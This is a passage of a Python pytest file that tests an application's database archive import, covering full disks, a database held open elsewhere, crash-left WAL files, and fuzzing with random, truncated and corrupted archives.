        import_archive(current, exported, backup=broken)
    assert sha256(current) == before
    assert folder_listing(current.parent) == ["obrero.sqlite3"]


class FullCopy:
    """The database folder fills up while the archive's database is copied there."""

    def __init__(self, handle, limit: int = 10_000) -> None:
        self._handle, self._left = handle, limit

    def write(self, data: bytes) -> int:
        self._left -= len(data)
        if self._left < 0:
            raise OSError(errno.ENOSPC, "No space left on device")
        return self._handle.write(data)

    def __enter__(self):
        return self

    def __exit__(self, *_exc) -> None:
        self._handle.close()

    def __getattr__(self, name: str):
        return getattr(self._handle, name)


def test_import_refuses_when_the_data_folder_is_full(exported: Path, current: Path, monkeypatch):
    fdopen = os.fdopen
    monkeypatch.setattr(restore.os, "fdopen", lambda *args: FullCopy(fdopen(*args)))
    before = sha256(current)
    with pytest.raises(ImportRefused, match="cannot be written: No space left on device"):
        import_archive(current, exported)
    monkeypatch.undo()
    assert sha256(current) == before
    assert folder_listing(current.parent) == ["obrero.sqlite3"]


def test_import_refuses_a_database_in_use(exported: Path, current: Path, monkeypatch):
    monkeypatch.setattr(restore, "RELEASE_TIMEOUT", 0.05)
    database = open_database(current)
    try:
        database.read(verify_chain)  # its connection stays open, idle, in the pool
        before = sha256(current)
        with pytest.raises(ImportRefused, match="open in another program"):
            import_archive(current, exported)
        assert sha256(current) == before
        assert database.read(verify_chain).intact
    finally:
        database.close()


def test_import_replaces_a_database_left_in_wal_mode(
    exported: Path, current: Path, demo: Database, make_draft
):
    database = open_database(current)
    database.write(add_member, make_draft(full_name="Only In The Old One"))
    wal = current.with_name(current.name + "-wal")
    # Simulate a crash: the write is only in the WAL file.
    shutil.copy(current, current.with_suffix(".crashed"))
    shutil.copy(wal, current.with_suffix(".crashed-wal"))
    database.close()
    shutil.copy(current.with_suffix(".crashed"), current)
    shutil.copy(current.with_suffix(".crashed-wal"), wal)
    result = import_archive(current, exported)
    assert not wal.exists()
    assert all_rows(current) == all_rows(demo.path)
    backed_up = [row[1] for row in all_rows(result.backup_path)["member"]]
    assert "Only In The Old One" in backed_up


# --- Fuzzing -------------------------------------------------------------------------------

FUZZ = settings(
    max_examples=50,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture(scope="module")
def fuzz_target(demo_file: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("fuzz-target") / "obrero.sqlite3"
    shutil.copy(demo_file, path)
    return path


def _try_import(data: bytes, target: Path, fuzz_archive: bytes, passphrase: str | None = None):
    """Verify and import ``data``: never an unexpected error, never a silent change."""
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "fuzzed.zip"
        path.write_bytes(data)
        report = verify_archive(path, passphrase=passphrase)
        assert isinstance(report, verify.ArchiveReport)
        assert report.ok or report.problems
        original = target.read_bytes()
        try:
            result = import_archive(target, path, passphrase=passphrase, accept_foreign=True)
        except ImportRefused:
            assert target.read_bytes() == original
            # Nothing new beside the database (an earlier example may have left backups/ empty).
            assert [name for name in folder_listing(target.parent) if name != "backups"] == [
                target.name
            ]
            assert not any((target.parent / "backups").glob("*"))
            return
        # Some bytes of a zip are never checked (a timestamp in a local header, say):
        # then the import is the archive's genuine database, and the old one was backed up.
        genuine = members_of_bytes(fuzz_archive)["database.sqlite3"]
        assert report.ok
        assert target.read_bytes() == genuine
        backup = result.backup_path
        assert backup is not None and backup.parent == target.parent / "backups"
        backup.unlink()
        target.write_bytes(original)


def members_of_bytes(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as zipped:
        return {name: zipped.read(name) for name in zipped.namelist()}


@FUZZ
@given(data=st.binary(max_size=2048), prefix=st.sampled_from([b"", b"PK\x03\x04", b"PK\x05\x06"]))
def test_fuzz_random_bytes(data: bytes, prefix: bytes, fuzz_target: Path, fuzz_archive: bytes):
    _try_import(prefix + data, fuzz_target, fuzz_archive)


@FUZZ
@given(cut=st.floats(0, 1, exclude_max=True))
def test_fuzz_truncated_archives(cut: float, fuzz_target: Path, fuzz_archive: bytes):
    _try_import(fuzz_archive[: int(cut * len(fuzz_archive))], fuzz_target, fuzz_archive)


@FUZZ
@given(
    changes=st.lists(
        st.tuples(st.floats(0, 1, exclude_max=True), st.integers(1, 255)), min_size=1, max_size=6
    ),
    at_end=st.booleans(),
)
def test_fuzz_mutated_archives(changes, at_end: bool, fuzz_target: Path, fuzz_archive: bytes):
    data = bytearray(fuzz_archive)
    # Half the time aim at the central directory and manifest, where zip parsing happens.
    start = len(data) - 4096 if at_end else 0
    for where, xor in changes:
        at = start + int(where * (len(data) - start))
        data[at] ^= xor
    _try_import(bytes(data), fuzz_target, fuzz_archive)


@settings(max_examples=10, deadline=None, suppress_health_check=list(HealthCheck))
@given(where=st.floats(0, 1, exclude_max=True), xor=st.integers(1, 255))
def test_fuzz_mutated_encrypted_archives(
    where: float, xor: int, fuzz_target: Path, fuzz_archive: bytes
):
    source = io.BytesIO(fuzz_archive)
    encrypted = io.BytesIO()
    encryption.encrypt_stream(source, encrypted, "pw")
    data = bytearray(encrypted.getvalue())
    data[int(where * len(data))] ^= xor
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.zip.enc"
        path.write_bytes(bytes(data))
        report = verify_archive(path, passphrase="pw")
    assert not report.ok and report.problems
    _try_import(bytes(data), fuzz_target, fuzz_archive, passphrase="pw")
